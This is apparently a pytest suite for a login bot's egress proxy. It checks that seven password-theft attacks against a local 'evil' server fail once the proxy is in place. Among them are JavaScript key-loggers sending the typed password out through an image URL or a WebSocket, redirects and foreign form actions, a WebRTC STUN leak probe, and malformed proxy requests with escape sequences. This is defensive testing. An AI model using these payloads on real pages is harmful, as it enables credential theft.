"""The browser goes where it has business, and nowhere else; seven attacks carry nothing away."""

import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from select import select
from threading import Event, Thread
from typing import Any
from urllib.parse import unquote

import pytest
import urllib3
from playwright.sync_api import Page, Playwright

from bot.credentials.passwords import Passwords
from bot.errors import WorkItemError
from bot.origins import host_of
from bot.portal import egress as egress_module
from bot.portal.egress import CHUNK, Egress
from bot.portal.sessions import Sessions
from bot.settings import load_settings
from bot.work_item import WorkItem
from pages.browser import launch
from pages.models import Contact, Secret
from pages.parts import CaptchaPicture
from tests.bot.lists import uscc

PASSWORD = "Mock-geheim-1"
PIXEL = bytes.fromhex(
    "47494638396101000100800000ffffff00000021f90400000000002c00000000010001000002024401003b"
)
BOX = """<form method="post" action="{action}">
<input placeholder="请输入用户名" name="user">
<input placeholder="请输入密码" type="password" name="password">
<input placeholder="请输入验证码">
<img src="/verifycode?r=1" width="90" height="30"><button>登录</button>
</form><div id="msg"></div>"""
HOME = """<ul class="login-tabs"><li>卡介质</li><li>本地登录</li></ul>
<iframe id="loginIframe1" src="{box}"></iframe>"""


class Server(ThreadingHTTPServer):
    """A server on loopback that keeps what arrives, and answers what the test says."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.arrived: list[str] = []
        self.has_password = Event()
        self.answer: Callable[[str, str], tuple[int, dict[str, str], bytes]] = _nothing
        Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def origin(self) -> str:
        """Where it is found."""
        return f"http://127.0.0.1:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    """Keeps the request whole, body and headers, and answers."""

    server: Server

    def do_GET(self) -> None:
        """Keep and answer."""
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        request = unquote(f"{self.path}\n{self.headers}\n{body}")
        self.server.arrived.append(request)
        if PASSWORD in request:
            self.server.has_password.set()
        status, headers, content = self.server.answer(self.command, self.path)
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def _nothing(method: str, path: str) -> tuple[int, dict[str, str], bytes]:
    return 200, {}, b""


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Server, Server]]:
    """The portal, and the attacker."""
    with ExitStack() as stack:
        portal, evil = (stack.enter_context(Server()) for _ in range(2))
        yield portal, evil
        for server in (portal, evil):
            server.shutdown()


Attack = Callable[[Server, Server], dict[str, Any]]
KEYS = """<script>document.querySelector("[type=password]").addEventListener("input",
event => { %s });</script>"""

# What the portal answers in each attack: the box in the frame, where it is, and the log-in.
ATTACKS: dict[str, Attack] = {
    "log-in answered by 307": lambda portal, evil: {"log_in": (307, f"{evil.origin}/take")},
    "look-alike behind a 302": lambda portal, evil: {"home": (302, f"{evil.origin}/index.action")},
    "form that goes elsewhere": lambda portal, evil: {"action": f"{evil.origin}/take"},
    "key-logger with a name": lambda portal, evil: {
        "script": f'new Image().src = "http://localhost:{evil.server_port}/" + event.target.value'
    },
    "key-logger with an allowed address": lambda portal, evil: {
        "script": f'new Image().src = "{evil.origin}/" + event.target.value'
    },
    "WebSocket": lambda portal, evil: {
        "script": f'new WebSocket("ws://127.0.0.1:{evil.server_port}/" + event.target.value)'
    },
    "log-in box in a foreign frame": lambda portal, evil: {"box": f"{evil.origin}/cas/login"},
}


def prepare(portal: Server, evil: Server, attack: Attack) -> None:
    """Let both servers play this attack."""
    plan = attack(portal, evil)
    script = KEYS % plan["script"] if "script" in plan else ""
    html = {"Content-Type": "text/html; charset=utf-8"}

    def answer(method: str, path: str) -> tuple[int, dict[str, str], bytes]:
        if path.startswith("/verifycode"):
            return 200, {"Content-Type": "image/gif"}, PIXEL
        if path.startswith("/cas/login") and method == "POST":
            status, location = plan.get("log_in", (200, ""))
            return status, {"Location": location}, b""
        if path.startswith("/cas/login"):
            box = BOX.format(action=plan.get("action", "/cas/login")) + script
            return 200, html, box.encode()
        return 200, html, HOME.format(box=plan.get("box", "/cas/login")).encode()

    def answer_as_portal(method: str, path: str) -> tuple[int, dict[str, str], bytes]:
        if path.startswith("/index.action") and "home" in plan:
            status, location = plan["home"]
            return status, {"Location": location}, b""
        return answer(method, path)

    portal.answer, evil.answer = answer_as_portal, answer
    for server in (portal, evil):
        server.arrived.clear()
        server.has_password.clear()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_works_on_a_browser_without_guards(
    page: Page, servers: tuple[Server, Server], attack: str
):
    """Each of the seven is real: it gets the password of a browser that is driven carelessly."""
    portal, evil = servers
    prepare(portal, evil, ATTACKS[attack])
    page.goto(f"{portal.origin}/index.action")
    box = page.frame_locator("#loginIframe1")

    box.get_by_placeholder("请输入密码").fill(PASSWORD)
    box.get_by_role("button", name="登录").click()

    assert evil.has_password.wait(5)


class Answers:
    """Somebody who answers whatever is asked."""

    def captcha(self, picture: CaptchaPicture) -> str:
        """Read the picture."""
        return "ABCD"

    def pin(self, enterprise_name: str) -> Secret:
        """Type the PIN."""
        return Secret("12345678")


@pytest.fixture
def sessions(servers: tuple[Server, Server], tmp_path: Path) -> Iterator[Sessions]:
    """The bot's own browser, with a password for whoever asks."""
    settings = load_settings(
        tmp_path, portal_url=servers[0].origin, data_dir=tmp_path / "data", timeout_seconds=2
    )
    given = {f"SINGLE_WINDOW_PASSWORD_{uscc(n)}": PASSWORD for n in range(len(ATTACKS))}
    sessions = Sessions(settings, Passwords(settings, given), Answers())
    yield sessions
    sessions.close()


def test_seven_attacks_on_the_bot_carry_nothing(
    sessions: Sessions, servers: tuple[Server, Server], tmp_path: Path
):
    """Nothing arrives anywhere but at the portal; what was refused is written down by its host."""
    portal, evil = servers
    contact = Contact("模拟联系人", "020-87654321", "13800138000", "contact@example.com")
    arrived = {}
    for number, (attack, plan) in enumerate(ATTACKS.items()):
        prepare(portal, evil, plan)
        item = WorkItem(portal.origin, uscc(number), "模拟企业", "mock", "XW1", contact, (), 2)
        with pytest.raises(WorkItemError):
            sessions.do(item, lambda session: None)
        arrived[attack] = list(evil.arrived)
        assert portal.arrived

    (log,) = tmp_path.rglob("egress.log")
    refused = [line.split(" ") for line in log.read_text("utf-8").splitlines()]
    names = {name for _, name in refused}

    assert arrived == {attack: [] for attack in ATTACKS}
    assert names >= {f"{name}:{evil.server_port}" for name in ("127.0.0.1", "localhost")}
    assert not any(PASSWORD in name for name in names)


GATHER = """address => { window.gathered = new Promise(resolve => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + address }] });
    call.onicegatheringstatechange = () => call.iceGatheringState == "complete" && resolve();
    call.createDataChannel("x");
    call.createOffer().then(offer => call.setLocalDescription(offer));
}) }"""
SOON = 10.0  # seconds


@pytest.mark.parametrize("is_guarded", [False, True])
def test_no_datagram_passes_by_the_proxy(playwright: Playwright, egress: Egress, is_guarded: bool):
    """WebRTC would ask any server by UDP, with a name that a page makes up."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as evil:
        evil.bind(("127.0.0.1", 0))
        browser = launch(playwright, proxy=egress.address if is_guarded else None)
        page = browser.new_page()
        page.evaluate(GATHER, f"127.0.0.1:{evil.getsockname()[1]}")
        if is_guarded:
            page.evaluate("window.gathered")  # until the browser has nothing more to ask
        has_arrived = bool(select([evil], [], [], 0 if is_guarded else SOON)[0])
        browser.close()

    assert has_arrived != is_guarded


@pytest.mark.parametrize("is_guarded", [False, True])
def test_what_would_send_later_and_unseen_is_not_there(
    playwright: Playwright, servers: tuple[Server, Server], egress: Egress, is_guarded: bool
):
    """A shared worker and a fetch for later outlive the page, and no handler sees them."""
    prepare(servers[0], servers[0], lambda *_: {})
    browser = launch(playwright, proxy=egress.address if is_guarded else None)
    page = browser.new_page()
    page.goto(servers[0].origin)
    there = page.evaluate("['fetchLater', 'SharedWorker'].map(name => name in window)")
    browser.close()

    assert there == ([False, False] if is_guarded else [True, True])


@pytest.fixture
def egress(servers: tuple[Server, Server], tmp_path: Path) -> Iterator[Egress]:
    """A proxy that lets through to the portal alone."""
    egress = Egress([host_of(servers[0].origin)], tmp_path / "egress.log").start()
    yield egress
    egress.close()


def ask(egress: Egress, method: str, url: str, **options: Any) -> int:
    """Send a request through the proxy; return the status."""
    proxy = urllib3.ProxyManager(egress.address, retries=False)
    return int(proxy.request(method, url, **options).status)


def test_the_proxy_forwards_what_is_allowed_as_it_is(egress: Egress, servers):
    """Path, query, body and headers arrive; what is meant for the proxy does not."""
    portal, _ = servers
    prepare(portal, portal, lambda *_: {})

    status = ask(egress, "POST", f"{portal.origin}/take?a=1&b=", body=b"x" * 200_000)

    assert status == 200
    assert portal.arrived[0].startswith("/take?a=1&b=\n")
    assert portal.arrived[0].endswith("x" * 200_000)
    assert "proxy" not in portal.arrived[0].lower()


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_the_proxy_refuses_everything_else(egress: Egress, servers, method: str):
    """Another port of the same machine is another host."""
    _, evil = servers
    prepare(evil, evil, lambda *_: {})

    assert ask(egress, method, f"{evil.origin}/") == 403
    assert evil.arrived == []
    assert egress.denied == [f"127.0.0.1:{evil.server_port}"]


def test_a_companys_proxy_gets_what_is_not_for_this_computer(tmp_path: Path, servers):
    """As a proxy wants it: a page with its whole address, a tunnel by its host and port."""
    portal, company = servers
    prepare(portal, company, lambda *_: {})
    allowed = [host_of(portal.origin), "portal.example:80", "portal.example:443"]
    egress = Egress(allowed, tmp_path / "egress.log", company.origin).start()

    statuses = [
        ask(egress, "POST", f"{portal.origin}/here"),
        ask(egress, "POST", "http://portal.example/there?a=1"),
        ask(egress, "GET", "http://elsewhere.example/"),
    ]
    with socket.create_connection(("127.0.0.1", int(egress.address.rpartition(":")[2]))) as line:
        line.sendall(b"CONNECT portal.example:443 HTTP/1.1\r\n\r\n")
        said = line.recv(100)
    egress.close()

    assert statuses == [200, 200, 403]
    assert [one.partition("\n")[0] for one in portal.arrived] == ["/here"]
    assert [one.partition("\n")[0] for one in company.arrived] == [
        "http://portal.example/there?a=1"
    ]
    assert said.startswith(b"HTTP/1.0 501")  # what this one says to a tunnel


@pytest.mark.parametrize(
    "sent",
    [
        "CONNECT 127.0.0.1 HTTP/1.1\r\n\r\n",
        "CONNECT \x1b]0;x\x07:443 HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "\r\n\r\n",
        "GET http://127.0.0.1:99999/ HTTP/1.1\r\n\r\n",
        "x" * 100_000,
    ],
)
def test_what_is_no_request_is_not_served(egress: Egress, sent: str):
    """The connection is closed, with a refusal or without a word, and the proxy goes on."""
    with socket.create_connection(("127.0.0.1", int(egress.address.rpartition(":")[2]))) as line:
        line.settimeout(5)
        with suppress(ConnectionError):
            line.sendall(sent.encode())
            said = line.recv(100)
            assert not said or said.startswith(b"HTTP/1.1 403")

    assert set(egress.denied) <= {"?", "127.0.0.1"}


@pytest.mark.parametrize(
    ("origin", "host"),
    [
        ("http://portal.example", "portal.example:80"),
        ("https://Portal.Example", "portal.example:443"),
        ("http://[::1]:8765", "[::1]:8765"),
    ],
)
def test_an_origin_has_a_host_and_a_port(origin: str, host: str):
    """The proxy compares what a browser asks for with what the settings say."""
    assert host_of(origin) == host


def test_a_browser_loads_no_more_than_its_budget_until_it_is_refilled(
    egress: Egress, servers, monkeypatch: pytest.MonkeyPatch
):
    """What is cut off is asked for again, and is not to be had until the next act."""
    portal, _ = servers
    prepare(portal, portal, lambda *_: {})
    monkeypatch.setattr("bot.portal.egress.BUDGET", 10)
    egress.refill()

    def is_answered() -> bool:
        with suppress(urllib3.exceptions.HTTPError):
            return ask(egress, "GET", portal.origin) == 200
        return False

    spent = [is_answered() for _ in range(2)]
    monkeypatch.undo()
    egress.refill()

    assert (spent, is_answered()) == ([False, False], True)


def test_a_narrow_way_out_has_room_for_one_connection(tmp_path: Path):
    """So a browser that sends again, on its own and unseen, reaches nobody."""
    server = Server()
    egress = Egress([host_of(server.origin)], tmp_path / "egress.log").start()
    proxy = urllib3.ProxyManager(egress.address)

    def is_answered() -> bool:
        with suppress(urllib3.exceptions.HTTPError):
            return proxy.request("GET", server.origin, retries=False).status > 0
        return False

    before = is_answered()
    egress.narrow()
    narrow = [is_answered() for _ in range(3)]
    egress.shut()
    shut = [is_answered() for _ in range(2)]
    egress.widen()
    after = is_answered()
    egress.close()
    proxy.clear()
    server.shutdown()
    server.server_close()

    assert (before, narrow, shut, after) == (True, [True, False, False], [False, False], True)
    assert len(server.arrived) == 3


def test_the_one_connection_of_a_narrow_way_out_is_the_portals(
    servers: tuple[Server, Server], tmp_path: Path, caplog: pytest.LogCaptureFixture
):
    """A card control that was cut comes again at once, and does not take the place of another."""
    portal, control = (host_of(server.origin) for server in servers)
    egress = Egress([portal], tmp_path / "egress.log", beside=[control]).start()

    def connect(host: str) -> tuple[socket.socket, bool]:
        line = socket.create_connection(("127.0.0.1", int(egress.address.rpartition(":")[2])), 5)
        line.sendall(f"CONNECT {host} HTTP/1.1\r\n\r\n".encode())
        return line, b" 200 " in line.recv(100)

    before, is_connected = connect(control)
    egress.narrow()
    is_cut = before.recv(100) == b""
    lines = [connect(host) for host in (control, portal, control, portal)]
    egress.widen()
    lines.append(connect(control))
    egress.close()
    for line, _ in [(before, is_connected), *lines]:
        line.close()

    assert (is_connected, is_cut) == (True, True)
    assert [may_pass for _, may_pass in lines] == [False, True, False, False, True]
    assert caplog.records == []


@pytest.fixture
def tunnels(tmp_path: Path) -> Iterator[Callable[..., Any]]:
    """Open tunnels to a host that says nothing, by a proxy that cuts what is idle for a moment."""
    with ExitStack() as stack:
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        host = f"127.0.0.1:{server.getsockname()[1]}"

        def tunnel(**hosts: Any) -> tuple[socket.socket, socket.socket]:
            places = {name: [host] if is_it else [] for name, is_it in hosts.items()}
            egress = Egress(log=tmp_path / "egress.log", **places).start(idle_seconds=1.0)
            stack.callback(egress.close)
            client = socket.create_connection(("127.0.0.1", egress._port), timeout=5)
            stack.enter_context(client)
            client.sendall(f"CONNECT {host} HTTP/1.1\r\n\r\n".encode())
            client.recv(CHUNK)
            return client, stack.enter_context(server.accept()[0])

        yield tunnel


def is_cut(end: socket.socket, seconds: float) -> bool:
    """Tell whether a connection that is silent is cut within so many seconds."""
    return bool(select([end], [], [], seconds)[0])


def test_a_connection_that_carries_nothing_is_cut(tunnels: Callable[..., Any]):
    """Both of its ends are; nobody waits for an answer that does not come."""
    ends = tunnels(portal=True)

    assert [is_cut(end, 3) for end in ends] == [True, True]


@pytest.mark.parametrize("speaker", [0, 1])
def test_one_direction_keeps_a_connection_open(tunnels: Callable[..., Any], speaker: int):
    """A long download, or a long form, is not idle."""
    ends = tunnels(portal=True)
    speaks, hears = ends[speaker], ends[1 - speaker]
    for _ in range(15):  # longer than the limit
        speaks.sendall(b"x")
        hears.recv(1)
        assert not is_cut(speaks, 0.1)


def test_a_card_control_may_be_silent(tunnels: Callable[..., Any]):
    """A person looks for the PIN meanwhile."""
    client, _ = tunnels(portal=False, beside=True)

    assert not is_cut(client, 2)


def test_log_of_refused_hosts_stays_small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A page may make up names without end, and a service may run for years."""
    monkeypatch.setattr(egress_module, "LARGEST_LOG", 2_000)
    for run in range(8):
        egress = Egress(["127.0.0.1:1"], tmp_path / "egress.log")
        for number in range(2 * egress_module.MOST_DENIED if run == 7 else 50):
            egress._deny(f"host-{run}-{number}.example:443")
    logs = sorted(file.name for file in tmp_path.iterdir())
    last = (tmp_path / "egress.log").read_text(encoding="utf-8").splitlines()

    assert logs == ["egress.log", "egress.log.1"]
    assert all((tmp_path / name).stat().st_size <= 2_000 for name in logs)
    assert len(egress.denied) == egress_module.MOST_DENIED
    assert last[-1].endswith("Z …")
    assert last[-2].endswith(f"host-7-{egress_module.MOST_DENIED - 1}.example:443")
